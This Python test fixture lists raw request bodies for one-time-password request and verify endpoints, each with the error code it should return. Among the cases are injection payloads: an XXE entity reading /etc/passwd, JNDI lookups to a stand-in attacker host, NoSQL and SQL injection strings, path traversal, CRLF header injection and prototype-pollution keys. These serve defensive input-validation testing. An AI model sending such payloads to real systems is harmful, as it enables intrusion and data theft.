"""Raw bodies, and the errorCode with which each is answered ("ok": read, checked and acted on).

Of numbers the one below is of the range reserved for fiction; "ok" on /verify-otp goes on to an
unknown verification.
"""

import json
from typing import NamedTuple

LIMIT = 4096
"""Bytes; written out, so that a change of the function's own limit is noticed."""

NUMBER = "+14155550177"
ID = "canaryVerificationId-AAAAAAAAAAA"
OTP = "908172"


class Body(NamedTuple):
    """One body and what it is answered with."""

    name: str
    raw: bytes
    expected: str


def _request(**members: object) -> bytes:
    return json.dumps({"phoneNumber": NUMBER} | members).encode()


def _verify(**members: object) -> bytes:
    return json.dumps({"verificationId": ID, "otp": OTP} | members).encode()


def _padded(length: int) -> bytes:
    """A right body, made exactly so many bytes long by white space inside it."""
    start, end = b'{"phoneNumber":"+14155550177"', b"}"
    return start + b" " * (length - len(start) - len(end)) + end


def _with(text: str) -> bytes:
    """A right body with one more member, as text."""
    return f'{{"phoneNumber":"+14155550177",{text}}}'.encode()


def _number(text: str) -> bytes:
    """A body whose phoneNumber is this JSON text, whatever it is."""
    return f'{{"phoneNumber":{text}}}'.encode()


def _otp(text: str) -> bytes:
    """A body whose otp is this JSON text, whatever it is."""
    return f'{{"verificationId":"{ID}","otp":{text}}}'.encode()


def _id(text: str) -> bytes:
    """A body whose verificationId is this JSON text, whatever it is."""
    return f'{{"verificationId":{text},"otp":"908172"}}'.encode()


# Refused by the parser on either path, so that no two programs can read a body differently.
UNREADABLE = (
    # -- nothing, or not an object
    Body("empty", b"", "INVALID_REQUEST"),
    Body("one space", b" ", "INVALID_REQUEST"),
    Body("white space", b" \t\r\n ", "INVALID_REQUEST"),
    Body("null", b"null", "INVALID_REQUEST"),
    Body("true", b"true", "INVALID_REQUEST"),
    Body("false", b"false", "INVALID_REQUEST"),
    Body("zero", b"0", "INVALID_REQUEST"),
    Body("a number", b"14155550177", "INVALID_REQUEST"),
    Body("a string", b'"+14155550177"', "INVALID_REQUEST"),
    Body("an empty string", b'""', "INVALID_REQUEST"),
    Body("an empty array", b"[]", "INVALID_REQUEST"),
    Body("an array of a right body", b'[{"phoneNumber":"+14155550177"}]', "INVALID_REQUEST"),
    Body("an array of pairs", b'[["phoneNumber","+14155550177"]]', "INVALID_REQUEST"),
    # -- not JSON
    Body("an open brace", b"{", "INVALID_REQUEST"),
    Body("a closed brace", b"}", "INVALID_REQUEST"),
    Body("cut in a key", b'{"phoneNum', "INVALID_REQUEST"),
    Body("cut before the value", b'{"phoneNumber":', "INVALID_REQUEST"),
    Body("cut in the value", b'{"phoneNumber":"+1415555', "INVALID_REQUEST"),
    Body("cut before the end", b'{"phoneNumber":"+14155550177"', "INVALID_REQUEST"),
    Body("trailing comma", b'{"phoneNumber":"+14155550177",}', "INVALID_REQUEST"),
    Body("leading comma", b'{,"phoneNumber":"+14155550177"}', "INVALID_REQUEST"),
    Body("two commas", b'{"phoneNumber":"+14155550177",,"channel":"sms"}', "INVALID_REQUEST"),
    Body("no comma", b'{"phoneNumber":"+14155550177" "channel":"sms"}', "INVALID_REQUEST"),
    Body("no colon", b'{"phoneNumber" "+14155550177"}', "INVALID_REQUEST"),
    Body("equals sign", b'{"phoneNumber"="+14155550177"}', "INVALID_REQUEST"),
    Body("single quotes", b"{'phoneNumber':'+14155550177'}", "INVALID_REQUEST"),
    Body("bare key", b'{phoneNumber:"+14155550177"}', "INVALID_REQUEST"),
    Body("bare value", b'{"phoneNumber":+14155550177}', "INVALID_REQUEST"),
    Body("block comment", b'{"phoneNumber":"+14155550177"/* c */}', "INVALID_REQUEST"),
    Body("line comment", b'{"phoneNumber":"+14155550177"}// c', "INVALID_REQUEST"),
    Body("hash comment", b'# c\n{"phoneNumber":"+14155550177"}', "INVALID_REQUEST"),
    Body("something after", b'{"phoneNumber":"+14155550177"}x', "INVALID_REQUEST"),
    Body("two documents", b'{"phoneNumber":"+14155550177"}{"phoneNumber":"+14155550178"}', "INVALID_REQUEST"),
    Body("two lines of documents", b'{"phoneNumber":"+14155550177"}\n{}', "INVALID_REQUEST"),
    Body("a NUL after", b'{"phoneNumber":"+14155550177"}\x00', "INVALID_REQUEST"),
    Body("a NUL before", b'\x00{"phoneNumber":"+14155550177"}', "INVALID_REQUEST"),
    Body("a form", b"phoneNumber=%2B14155550177", "INVALID_REQUEST"),
    Body(
        "XML",
        b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
        "INVALID_REQUEST",
    ),
    Body("YAML", b"phoneNumber: '+14155550177'", "INVALID_REQUEST"),
    Body("a callback", b'cb({"phoneNumber":"+14155550177"})', "INVALID_REQUEST"),
    Body("an anti-hijacking prefix", b')]}\',\n{"phoneNumber":"+14155550177"}', "INVALID_REQUEST"),
    Body("a no-break space", b'\xc2\xa0{"phoneNumber":"+14155550177"}', "INVALID_REQUEST"),
    Body("a vertical tab", b'\x0b{"phoneNumber":"+14155550177"}', "INVALID_REQUEST"),
    Body("hexadecimal", _with('"n":0x10'), "INVALID_REQUEST"),
    Body("octal", _with('"n":010'), "INVALID_REQUEST"),
    Body("underscored", _with('"n":1_000'), "INVALID_REQUEST"),
    Body("a leading point", _with('"n":.5'), "INVALID_REQUEST"),
    Body("a trailing point", _with('"n":5.'), "INVALID_REQUEST"),
    Body("undefined", _number("undefined"), "INVALID_REQUEST"),
    Body("Python's None", _number("None"), "INVALID_REQUEST"),
    Body("True in capitals", _number("True"), "INVALID_REQUEST"),
    # -- a key twice
    Body(
        "same key, same value",
        b'{"phoneNumber":"+14155550177","phoneNumber":"+14155550177"}',
        "INVALID_REQUEST",
    ),
    Body(
        "same key, other value",
        b'{"phoneNumber":"+14155550177","phoneNumber":"+14155550178"}',
        "INVALID_REQUEST",
    ),
    Body("same key, null last", b'{"phoneNumber":"+14155550177","phoneNumber":null}', "INVALID_REQUEST"),
    Body(
        "same key, first of a wrong type",
        b'{"phoneNumber":[],"phoneNumber":"+14155550177"}',
        "INVALID_REQUEST",
    ),
    Body(
        "same key, once escaped",
        b'{"phoneNumber":"+14155550177","\\u0070honeNumber":"+14155550178"}',
        "INVALID_REQUEST",
    ),
    Body(
        "same key, wholly escaped",
        b'{"otp":"908172","verificationId":"a","\\u006f\\u0074\\u0070":"908173"}',
        "INVALID_REQUEST",
    ),
    Body("same unknown key", _with('"x":1,"x":2'), "INVALID_REQUEST"),
    Body("same key, nested", _with('"x":{"a":1,"a":2}'), "INVALID_REQUEST"),
    Body("same key, nested in an array", _with('"x":[[{"a":1,"a":1}]]'), "INVALID_REQUEST"),
    Body("same empty key", _with('"":1,"":2'), "INVALID_REQUEST"),
    Body("__proto__ twice", _with('"__proto__":{},"__proto__":{}'), "INVALID_REQUEST"),
    Body("same otp twice", b'{"verificationId":"a","otp":"908172","otp":"908173"}', "INVALID_REQUEST"),
    Body("same id twice", b'{"verificationId":"a","verificationId":"b","otp":"908172"}', "INVALID_REQUEST"),
    # -- numbers that programs disagree on
    Body("NaN", _number("NaN"), "INVALID_REQUEST"),
    Body("NaN as an otp", _otp("NaN"), "INVALID_REQUEST"),
    Body("Infinity", _number("Infinity"), "INVALID_REQUEST"),
    Body("-Infinity", _number("-Infinity"), "INVALID_REQUEST"),
    Body("1e999", _number("1e999"), "INVALID_REQUEST"),
    Body("-1e999", _number("-1e999"), "INVALID_REQUEST"),
    Body("1e999 as an otp", _otp("1e999"), "INVALID_REQUEST"),
    Body("1E400", _with('"n":1E400'), "INVALID_REQUEST"),
    Body("an integer of 21 digits", _with('"n":100000000000000000000'), "INVALID_REQUEST"),
    Body("an integer of 4,000 digits", _number("1" * 4_000), "INVALID_REQUEST"),
    Body("an integer of 5,000 digits", _number("9" * 5_000), "INVALID_REQUEST"),
    Body("an otp of 5,000 digits", _otp("9" * 5_000), "INVALID_REQUEST"),
    Body("a fraction of 4,000 digits", _number("0." + "1" * 4_000), "INVALID_REQUEST"),
    Body("an exponent of 4,000 digits", _number("1e" + "9" * 4_000), "INVALID_REQUEST"),
    # -- depth
    Body("arrays 2,000 deep", b"[" * 2_000 + b"]" * 2_000, "INVALID_REQUEST"),
    Body("arrays 4,000 deep, never closed", b"[" * 4_000, "INVALID_REQUEST"),
    Body("objects 680 deep, never closed", b'{"a":' * 680, "INVALID_REQUEST"),
    Body("arrays 100,000 deep", b"[" * 100_000 + b"]" * 100_000, "INVALID_REQUEST"),
    Body("objects 100,000 deep", b'{"a":' * 100_000 + b"1" + b"}" * 100_000, "INVALID_REQUEST"),
    Body("a phoneNumber 100,000 deep", _number("[" * 100_000 + "]" * 100_000), "INVALID_REQUEST"),
    # -- text that is not Unicode
    Body("a high surrogate", _number('"\\ud800"'), "INVALID_REQUEST"),
    Body("a low surrogate", _number('"\\udfff"'), "INVALID_REQUEST"),
    Body("a reversed pair", _number('"\\udc00\\ud800"'), "INVALID_REQUEST"),
    Body("two high surrogates", _number('"\\ud83d\\ud83d"'), "INVALID_REQUEST"),
    Body("a surrogate before a number", _number('"\\ud800+14155550177"'), "INVALID_REQUEST"),
    Body("a surrogate in a key", _with('"\\udbff":1'), "INVALID_REQUEST"),
    Body("a surrogate in a nested key", _with('"x":{"\\ud800":1}'), "INVALID_REQUEST"),
    Body("a surrogate in an array", _with('"x":["\\udc00"]'), "INVALID_REQUEST"),
    Body("a surrogate in a sessionId", _with('"sessionId":"\\ud800"'), "INVALID_REQUEST"),
    Body("a surrogate in a verificationId", _id('"\\ud800"'), "INVALID_REQUEST"),
    Body("a surrogate in an otp", _otp('"90817\\udc00"'), "INVALID_REQUEST"),
    Body("an encoded surrogate", b'{"phoneNumber":"\xed\xa0\x80"}', "INVALID_REQUEST"),
    Body("an encoded surrogate pair", b'{"phoneNumber":"\xed\xa0\xbd\xed\xb8\x80"}', "INVALID_REQUEST"),
    Body("UTF-8's BOM", b'\xef\xbb\xbf{"phoneNumber":"+14155550177"}', "INVALID_REQUEST"),
    Body("only a BOM", b"\xef\xbb\xbf", "INVALID_REQUEST"),
    Body("UTF-16 with a BOM", '{"phoneNumber":"+14155550177"}'.encode("utf-16"), "INVALID_REQUEST"),
    Body("UTF-16, little end first", '{"phoneNumber":"+14155550177"}'.encode("utf-16-le"), "INVALID_REQUEST"),
    Body("UTF-16, big end first", '{"phoneNumber":"+14155550177"}'.encode("utf-16-be"), "INVALID_REQUEST"),
    Body("UTF-32", '{"phoneNumber":"+14155550177"}'.encode("utf-32"), "INVALID_REQUEST"),
    Body("UTF-7", b"+AHsAIg-phoneNumber+ACI:+ACI-x+ACIAfQ-", "INVALID_REQUEST"),
    Body("Latin-1", '{"sessionId":"é","phoneNumber":"+14155550177"}'.encode("latin-1"), "INVALID_REQUEST"),
    Body("a lone continuation byte", b'{"phoneNumber":"\x80"}', "INVALID_REQUEST"),
    Body("a cut sequence", b'{"phoneNumber":"\xe2\x82"}', "INVALID_REQUEST"),
    Body("an overlong slash", b'{"phoneNumber":"\xc0\xaf"}', "INVALID_REQUEST"),
    Body("an overlong NUL", b'{"phoneNumber":"\xc0\x80"}', "INVALID_REQUEST"),
    Body("beyond Unicode", b'{"phoneNumber":"\xf4\x90\x80\x80"}', "INVALID_REQUEST"),
    Body("0xFF", b"\xff\xff\xff\xff", "INVALID_REQUEST"),
    Body("gzip", b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff\xabVJ\xce", "INVALID_REQUEST"),
    Body("a cut escape", _number('"\\u12"'), "INVALID_REQUEST"),
    Body("an escape of no meaning", _number('"\\x41"'), "INVALID_REQUEST"),
    Body("an escaped single quote", _number('"\\\'"'), "INVALID_REQUEST"),
    # -- raw control characters in a string
    Body("a raw NUL", _number('"+1415\x005550177"'), "INVALID_REQUEST"),
    Body("a raw line feed", _number('"+14155550177\n"'), "INVALID_REQUEST"),
    Body("a raw carriage return", _number('"+14155550177\r"'), "INVALID_REQUEST"),
    Body("a raw tab", _number('"\t+14155550177"'), "INVALID_REQUEST"),
    Body("a raw escape character", _number('"\x1b[31m+14155550177"'), "INVALID_REQUEST"),
    Body("a raw line feed in a key", _with('"a\nb":1'), "INVALID_REQUEST"),
    # -- size
    Body("one byte too long", _padded(LIMIT + 1), "INVALID_REQUEST"),
    Body("64 KiB", _padded(64 * 1024), "INVALID_REQUEST"),
    Body("1 MiB", _padded(1024 * 1024), "INVALID_REQUEST"),
    Body("1 MiB of nothing", b" " * 1024 * 1024, "INVALID_REQUEST"),
    Body("1 MiB of NUL", b"\x00" * 1024 * 1024, "INVALID_REQUEST"),
    Body("6 MB of digits", b"1" * 6_000_000, "INVALID_REQUEST"),
)

# Read, then refused or taken: POST /request-otp.
REQUEST_OTP = (
    # -- taken
    Body("the number alone", _request(), "ok"),
    Body(
        "every field",
        _request(
            channel="sms", locale="en-US", purpose="log-in:web.1", sessionId="s", clientIp="203.0.113.7"
        ),
        "ok",
    ),
    Body("by voice", _request(channel="voice"), "ok"),
    Body("an escaped number", _number('"\\u002b14155550177"'), "ok"),
    Body("an escaped key", b'{"\\u0070honeNumber":"+14155550177"}', "ok"),
    Body("white space around", b' \r\n\t{ "phoneNumber" : "+14155550177" } \n', "ok"),
    Body("one byte under the limit", _padded(LIMIT - 1), "ok"),
    Body("at the limit", _padded(LIMIT), "ok"),
    Body("the longest sessionId", _request(sessionId="s" * 256), "ok"),
    Body("the longest sessionId, outside the BMP", _request(sessionId="\U0001f600" * 256), "ok"),
    Body("the longest purpose", _request(purpose="p" * 64), "ok"),
    # Opaque, only ever hashed: it may be any text.
    Body("a NUL in a sessionId", _request(sessionId="a\x00b"), "ok"),
    Body("CR and LF in a sessionId", _request(sessionId="a\r\nX-Injected: 1"), "ok"),
    Body("an RTL override in a sessionId", _request(sessionId="\u202eabc"), "ok"),
    Body("a lookup in a sessionId", _request(sessionId="${jndi:ldap://attacker.invalid/a}"), "ok"),
    Body("a template in a sessionId", _request(sessionId="{{7*7}}"), "ok"),
    # -- the object as a whole
    Body("an empty object", b"{}", "INVALID_REQUEST"),
    Body("no phoneNumber", b'{"channel":"sms"}', "INVALID_REQUEST"),
    Body("an empty key", _request(**{"": 1}), "INVALID_REQUEST"),
    Body("an unknown field", _request(canaryField="canaryValue"), "INVALID_REQUEST"),
    Body("an unknown null", _request(canaryField=None), "INVALID_REQUEST"),
    Body("__proto__", _request(__proto__={"phoneNumber": NUMBER}), "INVALID_REQUEST"),
    Body("constructor", _request(constructor={"prototype": {"isAdmin": True}}), "INVALID_REQUEST"),
    Body("__class__", _request(__class__="canaryClass"), "INVALID_REQUEST"),
    Body("another spelling of the key", b'{"phonenumber":"+14155550177"}', "INVALID_REQUEST"),
    Body("a capital key", b'{"PhoneNumber":"+14155550177"}', "INVALID_REQUEST"),
    Body("a full-width key", '{"\uff50honeNumber":"+14155550177"}'.encode(), "INVALID_REQUEST"),
    Body("a zero-width space in the key", b'{"phoneNumber\\u200b":"+14155550177"}', "INVALID_REQUEST"),
    Body("a NUL in the key", b'{"phoneNumber\\u0000":"+14155550177"}', "INVALID_REQUEST"),
    Body("the verify fields", _verify(), "INVALID_REQUEST"),
    Body("a tenant of one's choice", _request(tenant="canaryTenant"), "INVALID_REQUEST"),
    Body("a pinId of one's choice", _request(pinId="canaryPinId"), "INVALID_REQUEST"),
    Body("objects 600 deep", b'{"a":' * 600 + b"1" + b"}" * 600, "INVALID_REQUEST"),
    Body("arrays 600 deep, in a field", _with('"sessionId":' + "[" * 600 + "]" * 600), "INVALID_REQUEST"),
    Body(
        "arrays 2,000 deep, in a field", _with('"sessionId":' + "[" * 2_000 + "]" * 2_000), "INVALID_REQUEST"
    ),
    Body(
        "arrays 2,000 deep, in an unknown field", _with('"x":' + "[" * 2_000 + "]" * 2_000), "INVALID_REQUEST"
    ),
    Body("200 unknown fields", _request(**{f"x{n}": 1 for n in range(200)}), "INVALID_REQUEST"),
    # -- phoneNumber
    Body("a null number", _number("null"), "INVALID_PHONE_NUMBER"),
    Body("a true number", _number("true"), "INVALID_PHONE_NUMBER"),
    Body("a number as a number", _number("14155550177"), "INVALID_PHONE_NUMBER"),
    Body("a number as a fraction", _number("1.4155550177e10"), "INVALID_PHONE_NUMBER"),
    Body("a number as minus zero", _number("-0"), "INVALID_PHONE_NUMBER"),
    Body("a number in an array", _number('["+14155550177"]'), "INVALID_PHONE_NUMBER"),
    Body("two numbers in an array", _number('["+14155550177","+14155550178"]'), "INVALID_PHONE_NUMBER"),
    Body("a number in an object", _number('{"$ne":"+14155550177"}'), "INVALID_PHONE_NUMBER"),
    Body("an empty number", _number('""'), "INVALID_PHONE_NUMBER"),
    Body("a number of white space", _number('"   "'), "INVALID_PHONE_NUMBER"),
    Body("a number one character too long", _number(f'"{"9" * 33}"'), "INVALID_PHONE_NUMBER"),
    Body("a number of 3,000 characters", _number(f'"+{"9" * 3_000}"'), "INVALID_PHONE_NUMBER"),
    Body("no plus", _number('"14155550177"'), "INVALID_PHONE_NUMBER"),
    Body("an escaped NUL after", _number('"+14155550177\\u0000"'), "INVALID_PHONE_NUMBER"),
    Body("an escaped line feed after", _number('"+14155550177\\n"'), "INVALID_PHONE_NUMBER"),
    Body("CR and LF before", _number('"\\r\\n+14155550177"'), "INVALID_PHONE_NUMBER"),
    Body("an RTL override", _number('"\\u202e+14155550177"'), "INVALID_PHONE_NUMBER"),
    Body("an RTL override, unescaped", _number('"\u202e+14155550177"'), "INVALID_PHONE_NUMBER"),
    Body("an ANSI sequence", _number('"\\u001b[2J+14155550177"'), "INVALID_PHONE_NUMBER"),
    Body("a lookup", _number('"${jndi:ldap://attacker}"'), "INVALID_PHONE_NUMBER"),
    Body("a template", _number('"{{7*7}}"'), "INVALID_PHONE_NUMBER"),
    Body(
        "a quote that would end the string", _number('"+14155550177\\",\\"x\\":\\""'), "INVALID_PHONE_NUMBER"
    ),
    Body("the providers' placeholder", _number('"{{pin}}"'), "INVALID_PHONE_NUMBER"),
    # -- the rest
    Body("a null channel", _request(channel=None), "INVALID_REQUEST"),
    Body("an unknown channel", _request(channel="canaryChannel"), "INVALID_REQUEST"),
    Body("a channel in capitals", _request(channel="SMS"), "INVALID_REQUEST"),
    Body("a channel with a space", _request(channel="sms "), "INVALID_REQUEST"),
    Body("a channel in an array", _request(channel=["sms"]), "INVALID_REQUEST"),
    Body("a channel as a number", _request(channel=1), "INVALID_REQUEST"),
    Body("an empty locale", _request(locale=""), "INVALID_REQUEST"),
    Body("a locale of the POSIX form", _request(locale="en_US.UTF-8"), "INVALID_REQUEST"),
    Body("a locale with a line feed", _request(locale="en-US\n"), "INVALID_REQUEST"),
    Body("a locale that is too long", _request(locale="en" + "-abcdefgh" * 4), "INVALID_REQUEST"),
    Body("a locale of a path", _request(locale="../../etc/passwd"), "INVALID_REQUEST"),
    Body("a locale as a list of them", _request(locale="en-US,en;q=0.5"), "INVALID_REQUEST"),
    Body("an empty purpose", _request(purpose=""), "INVALID_REQUEST"),
    Body("a purpose that is too long", _request(purpose="p" * 65), "INVALID_REQUEST"),
    Body("a purpose with a space", _request(purpose="log in"), "INVALID_REQUEST"),
    Body("a purpose with a line feed after", _request(purpose="login\n"), "INVALID_REQUEST"),
    Body("a purpose with CR and LF", _request(purpose="a\r\nSet-Cookie: b"), "INVALID_REQUEST"),
    Body("a purpose with a NUL", _request(purpose="login\x00"), "INVALID_REQUEST"),
    Body("a lookup as a purpose", _request(purpose="${jndi:ldap://attacker.invalid/a}"), "INVALID_REQUEST"),
    Body("a template as a purpose", _request(purpose="{{7*7}}"), "INVALID_REQUEST"),
    Body("a format string as a purpose", _request(purpose="%s%n%x"), "INVALID_REQUEST"),
    Body("a placeholder as a purpose", _request(purpose="{{pin}}"), "INVALID_REQUEST"),
    Body("full-width digits as a purpose", _request(purpose="\uff11\uff12"), "INVALID_REQUEST"),
    Body("a purpose as an object", _request(purpose={"$gt": ""}), "INVALID_REQUEST"),
    Body("an empty sessionId", _request(sessionId=""), "INVALID_REQUEST"),
    Body("a sessionId that is too long", _request(sessionId="s" * 257), "INVALID_REQUEST"),
    Body("a sessionId as a number", _request(sessionId=123456789), "INVALID_REQUEST"),
    Body("a null sessionId", _request(sessionId=None), "INVALID_REQUEST"),
    Body("an empty clientIp", _request(clientIp=""), "INVALID_REQUEST"),
    Body("a clientIp that is too long", _request(clientIp="1" * 46), "INVALID_REQUEST"),
    Body("a clientIp as a number", _request(clientIp=3405803783), "INVALID_REQUEST"),
)

# Read, then refused or taken: POST /verify-otp.
VERIFY_OTP = (
    # -- taken
    Body("id and code", _verify(), "ok"),
    Body("every field", _verify(phoneNumber=NUMBER, sessionId="s"), "ok"),
    Body("an escaped code", _otp('"\\u0039\\u0030\\u0038172"'), "ok"),
    Body("leading zeros", _otp('"000000"'), "ok"),
    Body("the longest id", _verify(verificationId="v" * 64), "ok"),
    # Opaque, only ever hashed: it may be any text.
    Body("a NUL in an id", _verify(verificationId="a\x00b"), "ok"),
    Body("a lookup as an id", _verify(verificationId="${jndi:ldap://attacker.invalid/a}"), "ok"),
    Body("a table's key as an id", _verify(verificationId="V#canaryKey"), "ok"),
    # -- the object as a whole
    Body("an empty object", b"{}", "INVALID_REQUEST"),
    Body("no otp", _id('"a"').replace(b',"otp":"908172"', b""), "INVALID_REQUEST"),
    Body("no id", b'{"otp":"908172"}', "INVALID_REQUEST"),
    Body("number and code alone", b'{"phoneNumber":"+14155550177","otp":"908172"}', "INVALID_REQUEST"),
    Body("an unknown field", _verify(canaryField="canaryValue"), "INVALID_REQUEST"),
    Body("success of one's own", _verify(success=True), "INVALID_REQUEST"),
    Body("a state of one's own", _verify(state="verified"), "INVALID_REQUEST"),
    Body("a tenant of one's choice", _verify(tenant="canaryTenant"), "INVALID_REQUEST"),
    Body("a pinId of one's choice", _verify(pinId="canaryPinId"), "INVALID_REQUEST"),
    Body("__proto__", _verify(__proto__={"verified": True}), "INVALID_REQUEST"),
    Body("the request fields", _request(channel="sms"), "INVALID_REQUEST"),
    # -- otp
    Body("a code as a number", _otp("908172"), "INVALID_OTP_FORMAT"),
    Body("a code as zero", _otp("0"), "INVALID_OTP_FORMAT"),
    Body("a code as a fraction", _otp("908172.0"), "INVALID_OTP_FORMAT"),
    Body("a null code", _otp("null"), "INVALID_OTP_FORMAT"),
    Body("a true code", _otp("true"), "INVALID_OTP_FORMAT"),
    Body("a false code", _otp("false"), "INVALID_OTP_FORMAT"),
    Body("a code in an array", _otp('["908172"]'), "INVALID_OTP_FORMAT"),
    Body("many codes in an array", _otp('["000000","000001","000002"]'), "INVALID_OTP_FORMAT"),
    Body("no code in an array", _otp("[]"), "INVALID_OTP_FORMAT"),
    Body("an object that matches all", _otp('{"$regex":".*"}'), "INVALID_OTP_FORMAT"),
    Body("an empty code", _otp('""'), "INVALID_OTP_FORMAT"),
    Body("a code of five", _otp('"90817"'), "INVALID_OTP_FORMAT"),
    Body("a code of seven", _otp('"9081723"'), "INVALID_OTP_FORMAT"),
    Body("a code of seventeen", _otp('"90817290817290817"'), "INVALID_OTP_FORMAT"),
    Body("a code of 3,000", _otp(f'"{"9" * 3_000}"'), "INVALID_OTP_FORMAT"),
    Body("a code of letters", _otp('"abcdef"'), "INVALID_OTP_FORMAT"),
    Body("a code with a space before", _otp('" 90817"'), "INVALID_OTP_FORMAT"),
    Body("a code with a space after", _otp('"908172 "'), "INVALID_OTP_FORMAT"),
    Body("a code with a space inside", _otp('"908 172"'), "INVALID_OTP_FORMAT"),
    Body("a code with a line feed after", _otp('"908172\\n"'), "INVALID_OTP_FORMAT"),
    Body("a short code with a line feed after", _otp('"90817\\n"'), "INVALID_OTP_FORMAT"),
    Body("a code with a NUL after", _otp('"90817\\u0000"'), "INVALID_OTP_FORMAT"),
    Body("a code with a sign", _otp('"+90817"'), "INVALID_OTP_FORMAT"),
    Body("a code with a minus", _otp('"-90817"'), "INVALID_OTP_FORMAT"),
    Body("a code with a point", _otp('"90.817"'), "INVALID_OTP_FORMAT"),
    Body("a code with an exponent", _otp('"9081e2"'), "INVALID_OTP_FORMAT"),
    Body("a code with an underscore", _otp('"90_817"'), "INVALID_OTP_FORMAT"),
    Body("a hexadecimal code", _otp('"0x9081"'), "INVALID_OTP_FORMAT"),
    Body("full-width digits", _otp('"\uff19\uff10\uff18\uff11\uff17\uff12"'), "INVALID_OTP_FORMAT"),
    Body("one full-width digit", _otp('"90817\uff12"'), "INVALID_OTP_FORMAT"),
    Body("Arabic digits", _otp('"\u0669\u0660\u0668\u0661\u0667\u0662"'), "INVALID_OTP_FORMAT"),
    Body("Devanagari digits", _otp('"\u096f\u0966\u096e\u0967\u096d\u0968"'), "INVALID_OTP_FORMAT"),
    Body("superscript digits", _otp('"90817\u00b2"'), "INVALID_OTP_FORMAT"),
    Body("mathematical digits", _otp('"90817\U0001d7d0"'), "INVALID_OTP_FORMAT"),
    Body("a zero-width space", _otp('"9081\u200b2"'), "INVALID_OTP_FORMAT"),
    Body("an RTL override", _otp('"\u202e90817"'), "INVALID_OTP_FORMAT"),
    Body("a template as a code", _otp('"{{7*7}}"'), "INVALID_OTP_FORMAT"),
    Body("the providers' placeholder as a code", _otp('"{{pin}}"'), "INVALID_OTP_FORMAT"),
    Body("SQL as a code", _otp('"\' OR 1=1"'), "INVALID_OTP_FORMAT"),
    # -- verificationId
    Body("a null id", _id("null"), "INVALID_REQUEST"),
    Body("an id as a number", _id("12345678"), "INVALID_REQUEST"),
    Body("an id in an array", _id('["canaryIdInArray"]'), "INVALID_REQUEST"),
    Body("an object as an id", _id('{"$ne":null}'), "INVALID_REQUEST"),
    Body("an empty id", _id('""'), "INVALID_REQUEST"),
    Body("an id that is too long", _id(f'"{"v" * 65}"'), "INVALID_REQUEST"),
    # -- the rest
    Body("a null number", _verify(phoneNumber=None), "INVALID_PHONE_NUMBER"),
    Body("a number as a number", _verify(phoneNumber=14155550177), "INVALID_PHONE_NUMBER"),
    Body("a number in an array", _verify(phoneNumber=[NUMBER]), "INVALID_PHONE_NUMBER"),
    Body("a number without a plus", _verify(phoneNumber="14155550177"), "INVALID_PHONE_NUMBER"),
    Body("a number with a line feed", _verify(phoneNumber=NUMBER + "\n"), "INVALID_PHONE_NUMBER"),
    Body("a number that is too long", _verify(phoneNumber="+" + "9" * 32), "INVALID_PHONE_NUMBER"),
    Body("an empty sessionId", _verify(sessionId=""), "INVALID_REQUEST"),
    Body("a sessionId that is too long", _verify(sessionId="s" * 257), "INVALID_REQUEST"),
    Body("a sessionId in an array", _verify(sessionId=["canarySession"]), "INVALID_REQUEST"),
    Body("a null sessionId", _verify(sessionId=None), "INVALID_REQUEST"),
)
